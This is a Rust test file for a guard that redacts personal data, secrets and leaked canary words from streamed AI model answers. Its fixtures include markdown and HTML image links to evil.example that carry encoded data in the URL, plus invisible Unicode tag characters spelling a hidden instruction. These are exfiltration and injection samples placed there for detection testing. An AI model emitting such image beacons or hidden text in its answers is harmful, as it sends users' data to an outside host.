use proptest::prelude::*;

use super::super::{Redactor, ScopeKey};
use super::*;

fn answers(text: &str, sent: &str) -> Answers {
    let mut problems = Vec::new();
    let rules = DataRules::read("data.yaml", text, &mut problems);
    let rules = Arc::new(rules.unwrap_or_else(|| panic!("{problems:?}")));
    let mut redactor = Redactor::new(&rules, &ScopeKey([1; 32]));
    redactor.text(&String::new, sent).unwrap();
    redactor.finish().answers
}

const MASKS: &str = "version: 1\ngroups:\n  PERSONAL_IDS: {class: pii, action: surrogate, answers: mask}\n  CONTACT: {class: pii, action: surrogate, answers: mask}\n  PAYMENT: {class: pci, action: allow, answers: mask}\n  SECRETS: {class: secret, action: mask, answers: mask}\nentities: {}\n";

fn whole(answers: &Answers, text: &str, json: bool) -> (String, Vec<Finding>) {
    let (mut inspector, mut out) = (answers.stream(json), String::new());
    inspector.push(text, &mut out);
    inspector.finish(&mut out);
    (out, inspector.take())
}

#[test]
fn what_a_model_makes_up_is_masked_and_what_the_caller_sent_is_not() {
    let answers = answers(MASKS, "my card is 4111 1111 1111 1111");
    let (clean, findings) = whole(
        &answers,
        "Write to eve@example.com, not 4111 1111 1111 1111 but 5555 5555 5555 4444, key AKIAQYLPMN5HHHFPZAM2.",
        false,
    );
    assert_eq!(
        clean,
        "Write to [EMAIL_ADDRESS], not 4111 1111 1111 1111 but [CREDIT_CARD], key [AWS_ACCESS_KEY]."
    );
    let names: Vec<&str> = findings.iter().map(|finding| &*finding.entity).collect();
    assert_eq!(names, ["EMAIL_ADDRESS", "CREDIT_CARD", "AWS_ACCESS_KEY"]);
}

#[test]
fn a_surrogate_is_no_news() {
    let mut problems = Vec::new();
    let rules = Arc::new(DataRules::read("data.yaml", MASKS, &mut problems).unwrap());
    let mut redactor = Redactor::new(&rules, &ScopeKey([1; 32]));
    let cleaned = redactor
        .text(&String::new, "I am jane@example.com")
        .unwrap()
        .unwrap();
    let inspection = redactor.finish();
    let (same, findings) = whole(&inspection.answers, &cleaned, false);
    assert_eq!((same, findings.len()), (cleaned, 0));
}

#[test]
fn a_private_key_is_swallowed_to_its_end() {
    let answers = answers(MASKS, "");
    let key =
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabc def\n-----END RSA PRIVATE KEY-----";
    let (clean, _) = whole(&answers, &format!("Here: {key}\nDone."), false);
    assert_eq!(clean, "Here: [PRIVATE_KEY]\nDone.");
    let (clean, _) = whole(
        &answers,
        "Here: -----BEGIN PRIVATE KEY-----\nMIIEpAIBAAKCAQEA and more",
        false,
    );
    assert_eq!(clean, "Here: [PRIVATE_KEY]");
}

#[test]
fn json_stays_json() {
    let answers = answers(MASKS, "");
    let (clean, _) = whole(
        &answers,
        r#"{"card": 5555555555554444, "to": "eve@example.com"}"#,
        true,
    );
    assert_eq!(
        clean,
        r#"{"card": "[CREDIT_CARD]", "to": "[EMAIL_ADDRESS]"}"#
    );
}

#[test]
fn an_answer_ends_where_policy_blocks() {
    let answers = answers(
        "version: 1\nentities:\n  US_SSN: {class: pii, action: surrogate, answers: block}\n",
        "",
    );
    let (mut inspector, mut out) = (answers.stream(false), String::new());
    inspector.push("The number is 078-05-1123 and more text follows", &mut out);
    inspector.finish(&mut out);
    assert_eq!(out, "The number is ");
    assert_eq!(inspector.blocked().map(|name| &**name), Some("US_SSN"));
}

#[test]
fn where_nothing_may_change_everything_passes_at_once() {
    let answers = answers(
        "version: 1\nentities:\n  EMAIL_ADDRESS: {class: pii, action: surrogate}\n",
        "",
    );
    let (mut inspector, mut out) = (answers.stream(false), String::new());
    inspector.push("Ask eve@exam", &mut out);
    assert_eq!(out, "Ask eve@exam");
    inspector.push("ple.com.", &mut out);
    inspector.finish(&mut out);
    assert_eq!((&*out, inspector.take().len()), ("Ask eve@example.com.", 1));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn however_a_stream_is_cut_the_answer_is_the_same(parts in prop::collection::vec(prop_oneof![
        Just("eve@example.com".to_owned()), Just("5555 5555 5555 4444".to_owned()), Just("DE89 3704 0044 0532 0130 00".to_owned()),
        Just("078-05-1123".to_owned()), Just("AKIAQYLPMN5HHHFPZAM2".to_owned()), Just("password: a8Fk29dkWq11zz".to_owned()),
        Just("-----BEGIN PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END PRIVATE KEY-----".to_owned()), Just("お電話は 03-1234-5678 です。".to_owned()),
        Just("+44 20 7946 0958".to_owned()), "[a-z 0-9.,:é日]{0,20}", "[A-Z]{2}[0-9]{2} [0-9]{4} ",
    ], 0..14), cuts in prop::collection::vec(1_usize..9, 0..200)) {
        let answers = answers(MASKS, "");
        let text = parts.join(" ");
        let (expected, findings) = whole(&answers, &text, false);
        let (mut inspector, mut out, mut rest) = (answers.stream(false), String::new(), &*text);
        for cut in cuts {
            let at = rest.floor_char_boundary(cut.min(rest.len()));
            inspector.push(&rest[..at], &mut out);
            rest = &rest[at..];
        }
        inspector.push(rest, &mut out);
        inspector.finish(&mut out);
        prop_assert_eq!(out, expected);
        prop_assert_eq!(inspector.take(), findings);
    }
}

const GUARDS: &str = "version: 1\nentities:\n  CREDIT_CARD: {class: pci, action: allow, answers: mask}\nguards:\n  - {name: hidden, kind: invisible_text, on: [answers], action: mask}\n  - {name: pictures, kind: exfiltration, on: [answers], action: mask, hosts: [img.example.com]}\n";
const WITH_CANARY: &str = "version: 1\nentities: {}\nguards:\n  - {name: prompt, kind: canary, on: [answers], action: block, words: [ZEBRA-7719-QUILL]}\n";

fn cut_everywhere(answers: &Answers, text: &str) {
    let (want, _) = whole(answers, text, false);
    for first in text.char_indices().map(|(at, _)| at) {
        for second in [first, text.len().min(first + 7)] {
            let second = text.ceil_char_boundary(second);
            let (mut inspector, mut out) = (answers.stream(false), String::new());
            for piece in [&text[..first], &text[first..second], &text[second..]] {
                inspector.push(piece, &mut out);
            }
            inspector.finish(&mut out);
            assert_eq!(out, want, "cut at {first} and {second}");
        }
    }
}

#[test]
fn guards_take_out_the_same_wherever_a_stream_is_cut() {
    let answers = answers(GUARDS, "");
    let hidden: String = "call home"
        .chars()
        .filter_map(|c| char::from_u32(0xe0000 + u32::from(c)))
        .collect();
    let text = format!(
        "Hello{hidden} there. See ![a picture](https://evil.example/p.png?d=c2VjcmV0) and\n<img src=\"https://evil.example/q?c=1\"> and ![fine](https://img.example.com/ok.png), [1] is 5555 5555 5555 4444. Done [x]."
    );
    let (clean, findings) = whole(&answers, &text, false);
    assert!(
        clean.starts_with("Hello there. See [removed] and\n"),
        "{clean}"
    );
    assert!(
        !clean.contains("evil.example") && clean.contains("img.example.com"),
        "{clean}"
    );
    assert!(
        clean.ends_with("[1] is [CREDIT_CARD]. Done [x]."),
        "{clean}"
    );
    let named: Vec<_> = findings
        .iter()
        .map(|one| (&*one.entity, one.action, one.count))
        .collect();
    assert!(
        named.contains(&("pictures", "mask", 2)) && named.contains(&("CREDIT_CARD", "mask", 1)),
        "{named:?}"
    );
    cut_everywhere(&answers, &text);
}

#[test]
fn an_answer_ends_at_a_canary_however_it_is_written() {
    let answers = answers(WITH_CANARY, "");
    let filler = "word ".repeat(150);
    for leak in [
        "ZEBRA-7719-QUILL",
        "z e b r a 7 7 1 9 q u i l l",
        "WkVCUkEtNzcxOS1RVUlMTA==",
    ] {
        let text = format!("{filler}It says {leak} there. {filler}");
        let (mut inspector, mut out) = (answers.stream(false), String::new());
        inspector.push(&text, &mut out);
        inspector.finish(&mut out);
        assert_eq!(
            inspector.blocked().map(|name| &**name),
            Some("prompt"),
            "{leak}"
        );
        assert!(!out.contains("there."), "{leak}: {out}");
        cut_everywhere(&answers, &text);
    }
    let (same, findings) = whole(&answers, &filler, false);
    assert_eq!((same, findings.len()), (filler, 0));
}

#[test]
fn what_never_ends_is_let_go_and_nothing_waits_for_ever() {
    let answers = answers(GUARDS, "");
    for text in [
        format!("values = [{}", "one, ".repeat(3_000)),
        format!("<!-- {}", "word ".repeat(3_000)),
        format!("![a {}", "x".repeat(20_000)),
        format!("[ {}", "漢字".repeat(4_000)),
        "[".repeat(9_000),
    ] {
        let (same, _) = whole(&answers, &text, false);
        assert_eq!(same, text);
    }
    let far = format!("{}![x](https://evil.example/p.png)", "[1, 2 ".repeat(2_000));
    assert!(!whole(&answers, &far, false).0.contains("evil.example"));
}

#[test]
fn a_picture_within_brackets_or_defined_later_is_taken_out() {
    let answers = answers(GUARDS, "");
    let long = "word ".repeat(60);
    for text in [
        format!("![[x] {long}](https://evil.example/p?d=s) end"),
        format!("See ![p][r]. {long}\n[r]: https://evil.example/x?d=s\n end"),
    ] {
        let (clean, _) = whole(&answers, &text, false);
        assert!(
            clean.contains("[removed]") && !clean.contains("![p]"),
            "{clean}"
        );
        cut_everywhere(&answers, &text);
    }
}

#[test]
fn a_value_of_words_is_masked_whole() {
    let answers = answers(MASKS, "");
    for text in [
        "ada [at] example [dot] com",
        "ada (at) example (dot) com",
        "a d a @ e x a m p l e . c o m",
    ] {
        let text = format!("write to {text} today, please do");
        let (clean, _) = whole(&answers, &text, false);
        assert!(clean.contains("write to [EMAIL_ADDRESS] today"), "{clean}");
        cut_everywhere(&answers, &text);
    }
    let own = "version: 1\nentities: {}\ncustom:\n  - {name: PROJECT, class: secret, action: mask, answers: mask, pattern: '(?-u:\\b)Falcon(?-u:\\b)'}\n";
    assert_eq!(
        whole(&self::answers(own, ""), "It is Falcon again", false).0,
        "It is [PROJECT] again"
    );
}

#[test]
fn json_stays_json_where_a_value_follows_a_sign_in_a_text() {
    let answers = answers(MASKS, "");
    for (text, clean) in [
        (
            r#"{"text": "cards: 5555555555554444"}"#,
            r#"{"text": "cards: [CREDIT_CARD]"}"#,
        ),
        (
            r#"{"text": "a \"b, 5555555555554444"}"#,
            r#"{"text": "a \"b, [CREDIT_CARD]"}"#,
        ),
        (
            r#"{"n": 5555555555554444, "m": 1}"#,
            r#"{"n": "[CREDIT_CARD]", "m": 1}"#,
        ),
    ] {
        assert_eq!(whole(&answers, text, true).0, clean);
    }
}
